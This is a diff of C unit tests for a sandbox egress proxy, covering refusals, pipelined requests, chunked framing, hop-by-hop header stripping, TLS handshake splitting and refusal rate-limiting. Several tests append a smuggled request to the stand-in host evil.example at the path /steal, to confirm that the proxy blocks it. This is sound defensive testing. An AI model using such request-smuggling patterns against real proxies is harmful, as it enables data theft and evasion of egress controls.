@@ -647,7 +647,8 @@ static void test_absolute_rewrite(void **state)
 }
 
 /* The proxy refuses a bad head itself: the response, CLOSE 2, egress_refused to the daemon, no egress_open. */
-static void refused_by_proxy(uint32_t id, const char *head, const char *status_line, const char *rule)
+static void refused_by_proxy(uint32_t id, const char *head, const char *status_line, const char *rule, const char *host,
+			     int64_t port)
 {
 	char text[4096];
 	struct egress_frame f;
@@ -664,6 +665,14 @@ static void refused_by_proxy(uint32_t id, const char *head, const char *status_l
 	assert_non_null(strstr(text, "\r\n\r\ntkbox egress: "));
 	d_recv(&m, SUPMSG_EGRESS_REFUSED);
 	assert_string_equal(m.rule, rule);
+	if (host) {
+		/* The target the rule refused, for tkbox.egress. */
+		assert_non_null(m.host);
+		assert_string_equal(m.host, host);
+		assert_int_equal(m.port, port);
+	} else {
+		assert_null(m.host);
+	}
 	supmsg_release(&m);
 	g_simple(EGRESS_CLOSE, id, EGRESS_CLOSE_DONE);
 }
@@ -674,11 +683,11 @@ static void test_proxy_refusals(void **state)
 	refused_by_proxy(11,
 			 "POST http://example.com/ HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\n"
 			 "Transfer-Encoding: chunked\r\n\r\n",
-			 "HTTP/1.1 400 Bad Request\r\n", "malformed-request");
+			 "HTTP/1.1 400 Bad Request\r\n", "malformed-request", NULL, 0);
 	refused_by_proxy(12, "CONNECT example.com:80 HTTP/1.1\r\nHost: example.com:80\r\n\r\n",
-			 "HTTP/1.1 403 Forbidden\r\n", "connect-port-80");
-	refused_by_proxy(13, "GET http://example.com/ HTTP/1.1\r\nHost: other.example\r\n\r\n",
-			 "HTTP/1.1 403 Forbidden\r\n", "host-mismatch");
+			 "HTTP/1.1 403 Forbidden\r\n", "connect-port-80", "example.com", 80);
+	refused_by_proxy(13, "GET http://example.com:8080/ HTTP/1.1\r\nHost: other.example\r\n\r\n",
+			 "HTTP/1.1 403 Forbidden\r\n", "host-mismatch", "example.com", 8080);
 	d_quiet(); /* no egress_open for any of them */
 }
 
@@ -814,6 +823,208 @@ static void test_conn_cap(void **state)
 	assert_int_equal(T.rc, 0);
 }
 
+/* An absolute-form request dialled: the origin reads exactly want (the rewritten head and the body), no more. */
+static int64_t absolute(uint32_t id, const char *sent, const char *want, int *ret_origin)
+{
+	char got[4096];
+	bool eof;
+	int64_t conn = ask(id, sent, false, "example.com", 80);
+
+	d_send_dial(conn, "http://example.com:80", false, ret_origin);
+	assert_int_equal(o_read(*ret_origin, (uint8_t *)got, strlen(want), &eof), strlen(want));
+	got[strlen(want)] = '\0';
+	assert_string_equal(got, want);
+	o_nothing(*ret_origin);
+	return conn;
+}
+
+/* The origin answers and closes; the box reads it all, then FIN; the conn ends with up bytes to the origin. */
+static void absolute_end(uint32_t id, int64_t conn, int origin, int64_t up)
+{
+	static const char answer[] = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";
+	char got[256];
+
+	o_write(origin, answer, strlen(answer));
+	(void)close(origin);
+	g_read(id, got, strlen(answer));
+	assert_memory_equal(got, answer, strlen(answer));
+	g_expect(EGRESS_FIN, id, NULL);
+	g_simple(EGRESS_CLOSE, id, EGRESS_CLOSE_DONE);
+	g_expect(EGRESS_CLOSE, id, NULL); /* the proxy's answer: the id is free */
+	expect_done(conn, up, (int64_t)strlen(answer), NULL, NULL);
+}
+
+#define EVIL "GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n"
+
+/*
+ * A second request pipelined behind the first (another Host, another target)
+ * never reaches the decided origin: after a Content-Length body, and after a
+ * chunked one; neither in the first DATA nor later.
+ */
+static void test_pipelined(void **state)
+{
+	static const char cl_want[] = "POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\n"
+				      "Connection: close\r\n\r\nbody";
+	static const char ch_want[] = "POST /c HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n"
+				      "Connection: close\r\n\r\n4\r\nWiki\r\n0\r\n\r\n";
+	static const char get_want[] = "GET /g HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n";
+	int origin;
+	int64_t conn;
+	(void)state;
+
+	conn = absolute(41,
+			"POST http://example.com/p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 4\r\n\r\nbody" EVIL,
+			cl_want, &origin);
+	g_str(41, EVIL);
+	o_nothing(origin);
+	absolute_end(41, conn, origin, (int64_t)strlen(cl_want));
+
+	conn = absolute(42,
+			"POST http://example.com/c HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
+			"4\r\nWiki\r\n0\r\n\r\n" EVIL,
+			ch_want, &origin);
+	g_str(42, EVIL);
+	o_nothing(origin);
+	absolute_end(42, conn, origin, (int64_t)strlen(ch_want));
+
+	/* No body at all: nothing after the head goes. */
+	conn = absolute(43, "GET http://example.com/g HTTP/1.1\r\nHost: example.com\r\n\r\n" EVIL, get_want, &origin);
+	absolute_end(43, conn, origin, (int64_t)strlen(get_want));
+}
+
+/* A chunked body in pieces (extensions, a trailer) goes exactly, whatever the DATA split; nothing after it. */
+static void test_chunked_exact(void **state)
+{
+	static const char head[] = "PUT /u HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n"
+				   "Connection: close\r\n\r\n";
+	static const char body[] = "7;a=\"b;c\"\r\nchunk 1\r\n1A\r\nabcdefghijklmnopqrstuvwxyz\r\n0 ;end\r\n"
+				   "X-Sum: 42\r\n\r\n";
+	char want[512], got[512];
+	bool eof;
+	int origin;
+	int64_t conn =
+		absolute(45,
+			 "PUT http://example.com/u HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n"
+			 "\r\n",
+			 head, &origin);
+	(void)state;
+
+	for (size_t i = 0; i < strlen(body); i += 3) {
+		g_data(45, body + i, MIN((size_t)3, strlen(body) - i));
+	}
+	g_str(45, EVIL);
+	assert_int_equal(o_read(origin, (uint8_t *)got, strlen(body), &eof), strlen(body));
+	assert_memory_equal(got, body, strlen(body));
+	o_nothing(origin);
+	(void)snprintf(want, sizeof(want), "%s%s", head, body);
+	absolute_end(45, conn, origin, (int64_t)strlen(want));
+}
+
+/* A malformed chunk framing ends the stream: CLOSE 1, egress_done with the error; nothing after it goes. */
+static void test_chunked_malformed(void **state)
+{
+	static const char head[] = "POST /m HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n"
+				   "Connection: close\r\n\r\n4\r\nWiki";
+	struct egress_frame f;
+	char got[512];
+	bool eof;
+	int origin;
+	int64_t conn =
+		absolute(47,
+			 "POST http://example.com/m HTTP/1.1\r\nHost: example.com\r\nTransfer-Encoding: chunked\r\n"
+			 "\r\n4\r\nWiki",
+			 head, &origin);
+	(void)state;
+
+	g_str(47, "X\r\n0\r\n\r\n" EVIL); /* data longer than its size: no CRLF after it */
+	g_expect(EGRESS_CLOSE, 47, &f);
+	assert_int_equal(f.reason, EGRESS_CLOSE_RESET);
+	expect_done(conn, (int64_t)strlen(head), 0, "malformed-request", "chunked");
+	assert_int_equal(o_read(origin, (uint8_t *)got, sizeof(got), &eof), 0);
+	assert_true(eof);
+	(void)close(origin);
+}
+
+/* Hop-by-hop headers never reach the origin: Upgrade, Keep-Alive, TE, Trailer, any the Connection header names. */
+static void test_hop_headers(void **state)
+{
+	static const char want[] = "POST /h HTTP/1.1\r\nHost: example.com\r\nX-Other: 2\r\nContent-Length: 2\r\n"
+				   "Connection: close\r\n\r\nhi";
+	int origin;
+	int64_t conn =
+		absolute(49,
+			 "POST http://example.com/h HTTP/1.1\r\nHost: example.com\r\nConnection: keep-alive, "
+			 "X-Secret ,content-length, Upgrade\r\nUpgrade: websocket\r\nKeep-Alive: timeout=5\r\nTE: "
+			 "trailers\r\nTrailer: X-Sum\r\nX-Secret: 1\r\nX-Other: 2\r\nContent-Length: 2\r\n"
+			 "Connection: x-more\r\nX-More: 3\r\n\r\nhi",
+			 want, &origin);
+	(void)state;
+
+	absolute_end(49, conn, origin, (int64_t)strlen(want));
+}
+
+/* A server whose HelloRetryRequest comes split across records: the tunnel ends (tls-malformed), nothing goes on. */
+static void test_hrr_split(void **state)
+{
+	uint8_t got[sizeof(openssl_ch)], split[sizeof(hrr) + 5];
+	struct egress_frame f;
+	bool eof;
+	int origin;
+	int64_t conn = tunnel(51, CONNECT_EXAMPLE, "example.com", 443, false, &origin);
+	(void)state;
+
+	g_data(51, openssl_ch, sizeof(openssl_ch));
+	assert_int_equal(o_read(origin, got, sizeof(got), &eof), sizeof(got));
+	/* The same HRR as two records: 10 handshake bytes, then the rest. */
+	memcpy(split, hrr, 5 + 10);
+	split[3] = 0;
+	split[4] = 10;
+	memcpy(split + 15, hrr, 5);
+	split[18] = 0;
+	split[19] = (uint8_t)(sizeof(hrr) - 15);
+	memcpy(split + 20, hrr + 15, sizeof(hrr) - 15);
+	o_write(origin, split, sizeof(split));
+	g_expect(EGRESS_CLOSE, 51, &f); /* not one byte of the server's reached the box */
+	assert_int_equal(f.reason, EGRESS_CLOSE_REFUSED);
+	expect_done(conn, (int64_t)sizeof(openssl_ch), 0, "tls-malformed", "ServerHello");
+	(void)close(origin);
+}
+
+/*
+ * A flood of bad requests: EGRESS_SUP_REFUSED_PER_S egress_refused, then one
+ * summary (rule suppressed) counting the rest; the daemon is not flooded.
+ */
+static void test_refusal_flood(void **state)
+{
+	enum { N = 25 };
+	static const char bad[] = "GET /origin-form HTTP/1.1\r\nHost: example.com\r\n\r\n";
+	struct supmsg m;
+	char want[64];
+	(void)state;
+
+	for (uint32_t id = 1; id <= N; id++) {
+		g_open(id);
+	}
+	for (uint32_t id = 1; id <= N; id++) {
+		g_expect(EGRESS_OPEN_OK, id, NULL);
+	}
+	for (uint32_t id = 1; id <= N; id++) {
+		g_str(id, bad); /* written before the proxy's next turn: handled in one */
+	}
+	for (int i = 0; i < EGRESS_SUP_REFUSED_PER_S; i++) {
+		d_recv(&m, SUPMSG_EGRESS_REFUSED);
+		assert_string_equal(m.rule, "malformed-request");
+		supmsg_release(&m);
+	}
+	d_recv(&m, SUPMSG_EGRESS_REFUSED); /* once the second is over */
+	assert_string_equal(m.rule, "suppressed");
+	(void)snprintf(want, sizeof(want), "%d more refusals by the proxy", N - EGRESS_SUP_REFUSED_PER_S);
+	assert_non_null(strstr(m.message, want));
+	assert_non_null(strstr(m.message, "(rule malformed-request)"));
+	supmsg_release(&m);
+	d_quiet();
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -829,6 +1040,12 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_stop, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_closed_before_dial, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_conn_cap, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_pipelined, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_chunked_exact, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_chunked_malformed, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_hop_headers, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_hrr_split, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_refusal_flood, setup, teardown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
